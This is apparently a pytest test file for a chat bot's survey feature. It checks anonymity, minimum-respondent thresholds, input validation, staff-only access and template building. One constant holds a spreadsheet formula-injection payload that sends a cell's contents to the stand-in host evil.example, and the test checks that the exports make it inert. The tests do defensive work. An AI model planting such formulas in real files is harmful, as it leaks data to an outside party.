"""Surveys: anonymous answers cannot be linked to people (chat, exports, database), and
every bad input gets a clear answer with nothing stored. Organisers build templates."""

from __future__ import annotations

import io
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from bot.fakeapi import MAX_TEXT
from bot.sandbox import Sandbox
from storage.models import (
    Dialog,
    EventSurvey,
    SurveyAnswer,
    SurveyParticipant,
    SurveyQuestion,
    SurveyResponse,
    SurveyTemplate,
)
from tests.eventkit import NOT_ALLOWED, START, db
from tests.helpers import Clock
from tests.survey_kit import FIRST, FIRST_ID, NAMES, attach, course, csv_table, delivery_count, tick

END_1 = FIRST + timedelta(hours=4)
EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'


@pytest.fixture
def clock() -> Clock:
    return Clock(START)


async def count(sandbox: Sandbox, model: type) -> int:
    async with db(sandbox)() as session:
        return await session.scalar(select(func.count()).select_from(model)) or 0


async def only_survey(sandbox: Sandbox) -> EventSurvey:
    async with db(sandbox)() as session:
        (survey,) = await session.scalars(select(EventSurvey))
        return survey


async def question_ids(sandbox: Sandbox, template_id: int) -> list[int]:
    async with db(sandbox)() as session:
        return list(
            await session.scalars(
                select(SurveyQuestion.id)
                .where(SurveyQuestion.template_id == template_id)
                .order_by(SurveyQuestion.position)
            )
        )


async def test_anonymous_answers_cannot_be_linked_to_people(sandbox: Sandbox, clock: Clock) -> None:
    olga, event_id, sessions, people, ids = await course(sandbox)
    anna, baiba, cilda, dace, _elza = people
    await attach(olga, event_id, anonymous=True)
    clock.set(END_1 + timedelta(minutes=15))
    assert await tick(sandbox) == 5  # no attendance taken: every confirmed registrant
    survey = await only_survey(sandbox)
    q1 = (await question_ids(sandbox, survey.template_id))[0]
    base = f"{survey.id}:{sessions[0]}"

    await anna.press("📝 Answer")
    await anna.press("4")
    await anna.press("Just right")
    await anna.press("5")
    assert "Thank you" in (await anna.send(EVIL)).last.text
    await baiba.press("📝 Answer")
    await baiba.press("2")

    # While the survey is open, who answered is known; what they answered is sealed.
    async with db(sandbox)() as session:
        participants = list(await session.scalars(select(SurveyParticipant)))
        dialogs = {d.user_id: d for d in await session.scalars(select(Dialog))}
    assert {p.user_id for p in participants} == {ids[0], ids[1]}
    assert await count(sandbox, SurveyResponse) == 0
    assert await count(sandbox, SurveyAnswer) == 0
    sealed = [p.sealed for p in participants]
    assert all(s is not None for s in sealed)
    assert len({len(s) for s in sealed if s}) == 1  # a long answer and one rating: same size
    assert not any(EVIL.encode() in s for s in sealed if s)
    assert ids[0] not in dialogs  # Anna finished
    assert set(dialogs[ids[1]].data) == {"survey", "session", "index"}  # no answer in it

    # Anna changes an answer from any of her messages until the close.
    replies = await anna.press("✏️ Change my answers")
    assert "Your answer: 4/5" in replies.last.text
    await anna.press("2")
    # A forged old-style button with a token is just the survey's button: nobody answers
    # twice, and the survey is still not Dace's to answer for someone else.
    replies = await anna.press_data(f"svs:{base}:{'A' * 16}")
    assert "Your answer: 2/5" in replies.last.text
    await cilda.press("📝 Answer")
    await cilda.press("3")
    assert (await dace.press_data(f"sva:{base}:{q1}:1")).alert is None  # Dace may answer too
    async with db(sandbox)() as session:
        who = set(await session.scalars(select(SurveyParticipant.user_id)))
    assert who == {ids[0], ids[1], ids[2], ids[3]}

    # Before the close the organiser sees the response rate, not the answers.
    replies = await olga.press_data(f"rv:{survey.id}:0")
    assert "Responses: 4 of 5 (80%)" in replies.last.text
    assert "shown once it has closed and at least 3 people have answered" in replies.last.text
    assert "Mean" not in replies.last.text
    replies = await olga.press_data(f"rx:{survey.id}:{sessions[0]}:csv")
    assert replies.alert is not None and "at least 3 people" in replies.alert
    replies = await olga.press_data(f"rc:{survey.id}:{sessions[0]}")
    assert replies.alert is not None and "at least 3 people" in replies.alert

    # At the close every answer of the session is released at once, linked to nobody.
    clock.set(END_1 + timedelta(days=7, minutes=16))
    await tick(sandbox)
    async with db(sandbox)() as session:
        responses = list(await session.scalars(select(SurveyResponse)))
        left = list(await session.scalars(select(SurveyParticipant.sealed)))
        values = sorted(
            v
            for v in await session.scalars(
                select(SurveyAnswer.value).where(SurveyAnswer.question_id == q1)
            )
        )
    assert len(responses) == 4
    for response in responses:
        assert response.user_id is None
        assert (response.started_at, response.updated_at, response.completed_at) == (None,) * 3
    assert left == [None] * 4
    assert values == [1, 2, 2, 3]  # Anna's changed answer, Baiba's, Cilda's and Dace's

    # The chat and the exports show no names or ids.
    replies = await olga.press_data(f"rv:{survey.id}:0")
    replies = await olga.press_data(f"rv:{survey.id}:{sessions[0]}")
    assert "Responses: 4 of 5 (80%), complete: 1" in replies.last.text
    assert "Mean 2 of 5 (4 answers)" in replies.last.text
    assert "at least 3 people" not in replies.last.text
    secrets = [*NAMES, *(n.split()[0] for n in NAMES), *(r.id for r in responses)]
    secrets += [str(FIRST_ID + i) for i in range(5)]
    rows = csv_table(await olga.press("📄 CSV"))
    assert rows[0][:3] == ["Session", "Date", "Complete"]
    assert len(rows[0]) == 3 + 4
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if any(s in c for s in secrets)]
    assert not [h for h in rows[0] if "id" in h.lower().split()]  # no id column either
    assert "'" + EVIL in cells  # inert in a spreadsheet
    replies = await olga.press("📊 Excel")
    assert replies.last.file is not None
    sheet = load_workbook(io.BytesIO(replies.last.file.content)).active
    assert sheet is not None
    xlsx_cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c for c in xlsx_cells if any(s in str(c.value) for s in secrets)]
    (evil,) = [c for c in xlsx_cells if c.value == EVIL]
    assert evil.data_type == "s"
    replies = await olga.press("💬 Written answers")
    assert not any(s in replies.last.text for s in secrets)


async def test_anonymous_answers_of_fewer_than_three_people_are_never_shown(
    sandbox: Sandbox, clock: Clock
) -> None:
    olga, event_id, _sessions, people, _ids = await course(sandbox, sessions=1)
    anna, baiba, *_ = people
    await attach(olga, event_id, anonymous=True)
    clock.set(END_1 + timedelta(minutes=15))
    await tick(sandbox)
    survey = await only_survey(sandbox)
    for person, rating in ((anna, "5"), (baiba, "1")):
        await person.press("📝 Answer")
        await person.press(rating)
    clock.set(END_1 + timedelta(days=7, minutes=16))
    await tick(sandbox)
    assert await count(sandbox, SurveyResponse) == 2  # released, but too few to show
    replies = await olga.press_data(f"rv:{survey.id}:0")
    assert "Responses: 2 of 5 (40%)" in replies.last.text
    assert "at least 3 people have answered" in replies.last.text
    assert "Mean" not in replies.last.text and "5★" not in replies.last.text
    for data in (f"rx:{survey.id}:0:csv", f"rx:{survey.id}:0:xlsx", f"rc:{survey.id}:0"):
        replies = await olga.press_data(data)
        assert replies.alert is not None and "at least 3 people" in replies.alert, data
        assert not [r for r in replies.messages if r.file is not None]


async def test_bad_input_gets_a_clear_answer_and_stores_nothing(
    sandbox: Sandbox, clock: Clock
) -> None:
    olga, event_id, sessions, people, ids = await course(sandbox)
    anna, _baiba, _cilda, dace, elza = people
    await attach(olga, event_id, anonymous=False)
    await olga.press_data(f"at:{sessions[0]}:{ids[0]}:1")  # Anna present
    await olga.press_data(f"at:{sessions[0]}:{ids[3]}:0")  # Dace absent
    clock.set(END_1 + timedelta(minutes=15))

    # Planning at start-up: a restart alone queues the survey.
    await sandbox.stop_application()
    await sandbox.start_application()
    assert await delivery_count(sandbox, "survey") == 1
    assert await tick(sandbox) == 0  # the start-up pass has already sent it
    assert len(anna.replies_since(0).texts) == 1
    assert elza.replies_since(0).texts == []
    survey = await only_survey(sandbox)
    q1, _q2, _q3, q4 = await question_ids(sandbox, survey.template_id)
    base = f"{survey.id}:{sessions[0]}"
    async with db(sandbox).begin() as session:  # a question of another template
        other = SurveyTemplate(name="Cita")
        session.add(other)
        await session.flush()
        foreign = SurveyQuestion(
            template_id=other.id, position=0, kind="rating", required=True, texts={"en": "?"}
        )
        session.add(foreign)
        await session.flush()
        foreign_id = foreign.id

    refusals = {
        f"sva:{base}:{q1}:7": "That is not one of this question's answers.",
        f"sva:{base}:{q1}:0": "That is not one of this question's answers.",
        f"sva:{base}:{q1}:s": "This question needs an answer; it cannot be skipped.",
        f"sva:{base}:{q4}:3": "This button is no longer valid.",  # a text question
        f"sva:{base}:{foreign_id}:3": "This question is not part of this survey.",
        f"sva:999:{sessions[0]}:{q1}:3": "This button is no longer valid.",
        f"sva:{survey.id}:{sessions[1]}:{q1}:3": "This survey was not sent to you.",
    }
    for data, reason in refusals.items():
        replies = await anna.press_data(data)
        assert replies.alert == reason, data
    # Dace was absent and Olga never got it: the survey is not theirs.
    await dace.send("/help")
    for person in (dace, olga):
        assert (await person.press_data(f"svs:{base}")).alert == "This survey was not sent to you."
        replies = await person.press_data(f"sva:{base}:{q1}:5")
        assert replies.alert == "This survey was not sent to you."
    assert await count(sandbox, SurveyResponse) == 0
    assert await count(sandbox, SurveyAnswer) == 0

    # A text where a button is expected; a 5,000-character answer.
    await anna.press("📝 Answer")
    replies = await anna.send("Ļoti labi!")
    assert replies.texts == ["Please answer this question with the buttons."]
    assert await count(sandbox, SurveyAnswer) == 0
    await anna.press("5")
    await anna.press("Too much")
    replies = await anna.press("3")
    assert "What would you improve?" in replies.last.text
    replies = await anna.send("ā" * 5000)
    assert replies.texts == [
        "Your answer has 5000 characters; please shorten it to at most 1000. Nothing was saved."
    ]
    assert await count(sandbox, SurveyAnswer) == 3
    replies = await anna.send("ā" * 1000)
    assert "Thank you" in replies.last.text
    assert await count(sandbox, SurveyAnswer) == 4

    # Staff screens and results are for the event's staff only.
    for data in (f"svc:{event_id}:1:e:0", f"svd:{survey.id}:30", f"svx:{survey.id}"):
        assert (await anna.press_data(data)).alert == NOT_ALLOWED
    for data in (f"rv:{survey.id}:0", f"rx:{survey.id}:0:csv", f"rc:{survey.id}:0"):
        assert (await dace.press_data(data)).alert == NOT_ALLOWED
    replies = await olga.press_data(f"svx:{survey.id}")
    assert replies.alert is not None and "cannot be removed" in replies.alert

    # Closed after seven days: changing answers is refused.
    clock.set(END_1 + timedelta(days=7, minutes=15))
    replies = await anna.press("✏️ Change my answers")
    assert replies.alert is not None and replies.alert.startswith("This survey closed on")


async def test_organisers_build_a_template_in_the_chat(sandbox: Sandbox, clock: Clock) -> None:
    olga, event_id, _sessions, people, _ids = await course(sandbox, sessions=1)
    await olga.send("/templates")
    replies = await olga.press("➕ New template")
    assert "Type a name" in replies.last.text
    replies = await olga.send("Vasaras skolas aptauja")
    assert "No questions yet" in replies.last.text
    await olga.press("➕ Rating")
    await olga.send("Cik noderīgs bija grupu darbs?")
    replies = await olga.press("Required")
    assert replies.alert == "Question added."
    await olga.press("➕ Choice")
    await olga.send("Kurš formāts Jums der?")
    replies = await olga.send("Tikai viens")
    assert replies.texts == ["Please type 2 to 6 options, one per line."]
    await olga.send("Klātienē\nTiešsaistē\nJaukts")
    await olga.press("Optional")
    await olga.press("➕ Text")
    replies = await olga.send("x" * 301)
    assert replies.texts == ["Please type a question of 1 to 300 characters."]
    await olga.send("Jūsu komentāri")
    replies = await olga.press("Optional")
    assert replies.last.text.splitlines()[2:] == [
        "1. Cik noderīgs bija grupu darbs? (rating 1-5, required)",
        "2. Kurš formāts Jums der? (choice, optional)",
        "    • Klātienē",
        "    • Tiešsaistē",
        "    • Jaukts",
        "3. Jūsu komentāri (free text, optional)",
    ]
    async with db(sandbox)() as session:
        template = await session.scalar(
            select(SurveyTemplate).where(SurveyTemplate.name == "Vasaras skolas aptauja")
        )
    assert template is not None

    # Participants cannot build templates; a used template no longer changes.
    await people[0].send("/help")
    assert (await people[0].press_data("tpl:n")).alert == NOT_ALLOWED
    await olga.press_data(f"ea:{event_id}")
    await olga.press("📝 Survey")
    await olga.press("➕ Add a survey")
    await olga.press("Vasaras skolas aptauja")
    await olga.press("Once, after the last session")
    replies = await olga.press("👤 Named")
    assert "once, after the last session, named" in replies.last.text
    replies = await olga.press_data(f"tpl:q:{template.id}:rating")
    assert replies.alert == (
        "This template is already used by a survey, so its questions cannot change."
    )
    # Pressing "add" twice attaches it once; the timing buttons cycle through the choices.
    await olga.press_data(f"svc:{event_id}:{template.id}:l:0")
    assert await count(sandbox, EventSurvey) == 1
    replies = await olga.press("⏱ 15 min")
    assert "sent 30 min after the end, open for 7 days" in replies.last.text
    replies = await olga.press("📅 7 days")
    assert "open for 14 days" in replies.last.text


async def test_many_long_written_answers_are_paged_under_the_limit(
    sandbox: Sandbox, clock: Clock
) -> None:
    olga, event_id, sessions, _people, _ids = await course(sandbox, sessions=1)
    await attach(olga, event_id, anonymous=True)
    clock.set(END_1 + timedelta(minutes=15))
    await tick(sandbox)
    survey = await only_survey(sandbox)
    q4 = (await question_ids(sandbox, survey.template_id))[3]
    texts = [f"<{n:02d}> " + "&<" * 498 for n in range(30)]  # 1,000 characters that escape
    async with db(sandbox).begin() as session:
        for n, text in enumerate(texts):
            session.add(
                SurveyResponse(id=f"r{n:015d}", survey_id=survey.id, session_id=sessions[0])
            )
            await session.flush()
            session.add(SurveyAnswer(response_id=f"r{n:015d}", question_id=q4, text=text))
    replies = await olga.press_data(f"rv:{survey.id}:0")
    assert "30 written answers" in replies.last.text
    replies = await olga.press("💬 Written answers (30)")
    seen, pages = set(), 0
    while True:
        pages += 1
        text = replies.last.text
        assert len(text) <= MAX_TEXT
        seen |= {int(n) for n in re.findall(r"«<(\d\d)> ", text)}
        if "▶" not in replies.last.button_labels:
            break
        replies = await olga.press("▶")
    assert seen == set(range(30)) and pages > 5
    rows = csv_table(await olga.press_data(f"rx:{survey.id}:0:csv"))
    assert sorted(r[-1] for r in rows[1:]) == sorted(texts)  # in full in the export
